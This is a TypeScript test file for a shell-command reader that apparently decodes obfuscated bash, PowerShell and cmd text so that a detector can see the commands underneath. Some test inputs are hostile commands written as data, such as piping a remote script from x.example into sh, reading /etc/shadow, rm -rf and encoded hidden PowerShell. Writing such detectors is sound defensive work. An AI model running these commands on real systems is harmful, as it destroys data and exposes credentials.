// SPDX-License-Identifier: Apache-2.0
import test from 'ava';
import { readArguments, readShell, MAX_SHELL_TEXT } from '../../../../../../enforce/detect/tools/shell/read.js';
import { lineOf, linesOf } from './reading.js';

/** A text, and the commands that it comes to. */
const READINGS: readonly (readonly [text: string, ...lines: string[]])[] = [
  // Quotes, escapes, comments, joined lines
  ['ls -la', 'ls -la'],
  ['echo "a b" \'c d\'', 'echo a b c d'],
  ['e""cho a', 'echo a'],
  ['ec\\ho a\\ b', 'echo a b'],
  ["$'\\x6c\\163' $'a\\tb\\u0041\\U00000042'", 'ls a\tbAB'],
  ['$"ls" a', 'ls a'],
  ['ls \\\n -la', 'ls -la'],
  ['ls # -la', 'ls'],
  ['ls a#b', 'ls a#b'],
  ['echo ""', 'echo'],
  // Parameters
  ['x=a; echo $x ${x} "$x" \'$x\'', 'echo a a a $x'],
  ['x=abcdef; echo ${x:1} ${x:1:2} ${x: -2} ${x:1:-1} ${#x}', 'echo bcdef bc ef bcde 6'],
  ['x=a.b.c; echo ${x#*.} ${x##*.} ${x%.*} ${x%%.*}', 'echo b.c c a.b a'],
  ['x=banana; echo ${x/a/o} ${x//a/o} ${x/#b/c} ${x/%a/o} ${x//a}', 'echo bonana bonono canana banano bnn'],
  ['x=aB; echo ${x^} ${x^^} ${x,,} ${x@U}', 'echo AB AB ab AB'],
  ['echo ${x:-d} ${x:=e} $x ${x:+f} ${x-g}', 'echo d e e f e'],
  ['x=y; y=z; echo ${!x}', 'echo z'],
  ['echo $unset', 'echo <?>'],
  ['echo $HOME ~/a ~root', 'echo /home/user /home/user/a /root'],
  ['a=(p q r); echo ${a[1]} ${a[@]} ${#a[@]} $a', 'echo q p q r 3 p'],
  ['a=(p "q r"); "${a[@]}"', 'p q r'],
  ['x=1; x+=2; echo $x', 'echo 12'],
  ['set -- a b; echo $1 $2 $# "$@"; shift; echo $1', 'set -- a b', 'echo a b 2 a b', 'shift', 'echo b'],
  // Fields
  ['x="a b"; ls $x "$x"', 'ls a b a b'],
  ['ls${IFS}-l', 'ls -l'],
  ['IFS=:; x=a:b; ls $x', 'ls a b'],
  ['IFS=,; c=l,s; $c -a', 'l s -a', 'ls -a'],
  // Braces
  ['echo {a,b}{c,d}', 'echo ac ad bc bd'],
  ['echo {a..c} {3..1} {1..5..2}', 'echo a b c 3 2 1 1 3 5'],
  ['echo {a,{b,c}} {x} {a,b "{a,b}"', 'echo a b c {x} {a,b {a,b}'],
  ['/bin/{ls,} -l', '/bin/ls /bin/ -l'],
  // Wildcards stay open
  ['/bin/l? *.ts', '/bin/l<1> <*>.ts'],
  ['ls [ab]c "[ab]c"', 'ls <[>ab<]>c [ab]c'],
  ['[ -f x ]', '[ -f x ]'],
  // Substitution
  ['$(echo ls) -l', 'echo ls', 'ls -l'],
  ['`echo ls` -l', 'echo ls', 'ls -l'],
  ['echo $(printf "%s-%d" a 7)', 'printf %s-%d a 7', 'echo a-7'],
  ['echo `echo \\`echo a\\``', 'echo a', 'echo a', 'echo a'],
  ['echo $(date)', 'date', 'echo <out>'],
  ['echo $((2 * (3 + 4))) $((0x10)) $((1 << 4))', 'echo 14 16 16'],
  ['x=3; echo $((x + 1)) $[x*2]', 'echo 4 6'],
  ['echo $(rev <<< cba)', 'rev <<<', 'echo abc'],
  ['echo $(echo YWJj | base64 -d)', 'echo YWJj', 'base64 -d', 'echo abc'],
  ['echo $(echo 616263 | xxd -r -p)', 'echo 616263', 'xxd -r -p', 'echo abc'],
  ['echo $(echo nop | tr a-z n-za-m)', 'echo nop', 'tr a-z n-za-m', 'echo abc'],
  ['echo $(printf a; printf b)', 'printf a', 'printf b', 'echo ab'],
  ['cat <(ls)', 'ls', 'cat /dev/fd/1000'],
  // Lists, pipes, groups
  ['a; b && c || d & e', 'a', 'b', 'c', 'd', 'e'],
  ['a | b |& c', 'a', 'b', 'c'],
  ['(a; b) > f', 'a', 'b', '>f'],
  ['{ a; b; }', 'a', 'b'],
  ['! time -p a', 'a'],
  ['if a; then b; elif c; then d; else e; fi', 'a', 'b', 'c', 'd', 'e'],
  ['while a; do b; done', 'a', 'b'],
  ['for x in 1 2; do a $x; done', 'a 1', 'a 2'],
  ['for ((i=0; i<3; i++)); do a; done', 'a'],
  ['case $x in a|b) c;; *) d;; esac', ': <?>', 'c', 'd'],
  ['f() { a $1; }; f 1', 'f 1', 'a 1'],
  ['f() { a; }', 'a'],
  ['function f { a; }; f', 'f', 'a'],
  ['[[ a == b && c < d ]] || e', '[[ a == b c d', 'e'],
  // Redirections
  ['a 2>&1 >f <g 3<>h &>i', 'a 2>&1 >f <g 3<>h &>i'],
  ['a > "$x/f"', 'a ><?>/f'],
  // Here-documents
  ['cat <<E\n$HOME\nE\nls', 'cat <<', 'ls'],
  ['bash <<E\nls -l\nE', 'bash <<', 'ls -l'],
  ["bash <<'E' && b\na $x\nE\nc", 'bash <<', 'a <?>', 'b', 'c'],
  ['bash <<-E\n\tls\n\tE', 'bash <<', 'ls'],
  // Texts inside texts
  ['eval "ls -l"', 'eval ls -l', 'ls -l'],
  ["bash -c 'ls $1' x y", 'bash -c ls $1 x y', 'ls y'],
  ['echo ls | sh', 'echo ls', 'sh', 'ls'],
  ['echo ls > f; sh f', 'echo ls >f', 'sh f', 'ls'],
  ['source <(echo ls)', 'echo ls', 'source /dev/fd/1000', 'ls'],
  // Wrappers
  ['sudo -u x env A=1 nohup ls -l', 'sudo -u x env A=1 nohup ls -l', 'env A=1 nohup ls -l', 'nohup ls -l', 'ls -l'],
  ['timeout -s 9 5 ls', 'timeout -s 9 5 ls', 'ls'],
  ['find . -exec ls {} \\; -exec cat {} +', 'find . -exec ls {} ; -exec cat {} +', 'ls ./<*>', 'cat ./<*>'],
  ["find a -name '*.ts' -exec ls {} +", 'find a -name *.ts -exec ls {} +', 'ls a/<*>.ts'],
  ['echo a | xargs -n1 ls', 'echo a', 'xargs -n1 ls', 'ls a'],
  ['echo a | xargs -I% ls -l %', 'echo a', 'xargs -I% ls -l %', 'ls -l a'],
  ['ssh h "ls -l"', 'ssh h ls -l', 'ls -l'],
  ["su -c 'ls' bob", 'su -c ls bob', 'ls'],
  ['docker exec -it c ls', 'docker exec -it c ls', 'ls'],
  // Other languages
  ['python -c "import os; os.system(\'ls -l\')"', "python -c import os; os.system('ls -l')", 'ls -l'],
  [
    "node -e \"require('child_process').execFileSync('ls', ['-l'])\"",
    "node -e require('child_process').execFileSync('ls', ['-l'])",
    'child_process',
    'ls',
    '-l',
    'ls -l',
  ],
];

for (const [text, ...lines] of READINGS)
  test(`reads ${JSON.stringify(text)}`, (t) => {
    t.deepEqual(linesOf(text), lines);
  });

test('windows shells are read by their own rules', (t) => {
  const has = (text: string, line: string): void => {
    t.true(linesOf(text).includes(line), `${text} -> ${linesOf(text).join(' / ')}`);
  };
  has('Remove-Item -Recurse C:\\data', 'Remove-Item -Recurse C:\\data');
  has('d^e^l /s C:\\data', 'del /s C:\\data');
  has('Rem`ove-Item x', 'Remove-Item x');
  has("iex ('Get-' + 'Item C:\\x')", 'Get-Item C:\\x');
  has('$c = "Get-Item"; & $c C:\\x', 'Get-Item C:\\x');
  has('cmd /c "dir C:\\x & del /q C:\\y"', 'del /q C:\\y');
  has('powershell -EncodedCommand RwBlAHQALQBJAHQAZQBtACAAeAA=', 'Get-Item x');
  has('powershell -nop -w hidden -c "Get-Item x; Get-Item y"', 'Get-Item y');
});

test('where a command comes from is kept', (t) => {
  const { commands } = readShell('echo bHM= | base64 -d | sudo bash');
  const ls = commands.find(({ name }) => name === 'ls');
  t.deepEqual(ls?.via, ['sudo', 'bash']);
  t.deepEqual(ls?.origin, ['base64', 'decode']);
  const bash = commands.find(({ runs }) => runs !== undefined);
  t.deepEqual(bash?.runs, { known: true, sources: ['base64', 'decode'] });
  t.is(commands.find(({ name }) => name === 'base64')?.pipedFrom, 0);
});

test('the folder of a command follows cd', (t) => {
  const { commands } = readShell('cd /etc && cat shadow; cd x; ls');
  t.is(commands.find(({ name }) => name === 'cat')?.folder, '/etc');
  t.is(commands.find(({ name }) => name === 'ls')?.folder, '/etc/x');
});

test('a value that may be another one is tried as both', (t) => {
  const lines = linesOf('if a; then c=ls; else c=rm; fi; $c x');
  t.true(lines.includes('ls x'));
  t.true(lines.includes('rm x'));
});

test('doubts name what is not known', (t) => {
  const doubts = (text: string): readonly string[] => readShell(text).doubts;
  t.deepEqual(doubts('ls -la; echo "$HOME"'), []);
  t.deepEqual(doubts("echo 'open"), ['syntax']);
  t.deepEqual(doubts('echo "open'), ['syntax']);
  t.deepEqual(doubts('echo `open'), ['syntax']);
  t.deepEqual(doubts('ls )'), ['syntax']);
  t.deepEqual(doubts('$x a'), ['name']);
  t.deepEqual(doubts('eval "$x"'), ['value']);
  t.deepEqual(doubts('curl https://x.example | sh'), ['script']);
  t.deepEqual(doubts('base64 -d f | sh'), ['script']);
  t.deepEqual(doubts(`${'('.repeat(100)}ls`), ['depth']);
  t.true(doubts('a;'.repeat(100_000)).includes('size'));
  t.true(doubts('x'.repeat(MAX_SHELL_TEXT + 1)).includes('size'));
});

test('what stands ahead of a fault is read, and the rest loosely', (t) => {
  const lines = linesOf("ls -l\nrm -rf /data 'open");
  t.true(lines.includes('ls -l'));
  t.true(lines.includes('rm -rf /data open'));
});

test('words of a program are not read as a text', (t) => {
  t.deepEqual(readArguments(['echo', '$(ls)', 'a b']).commands.map(lineOf), ['echo $(ls) a b']);
  t.deepEqual(readArguments(['bash', '-c', 'ls -l']).commands.map(lineOf), ['bash -c ls -l', 'ls -l']);
  t.deepEqual(readArguments([]).commands, []);
});

test('a character that the reader uses as a mark means nothing special', (t) => {
  t.deepEqual(linesOf('r\uFDD0m x'), ['r\uFFFDm x', 'r\uFFFDm x'].slice(0, linesOf('r\uFDD0m x').length));
  t.deepEqual(readShell('\uFDD0 x').doubts, []);
});
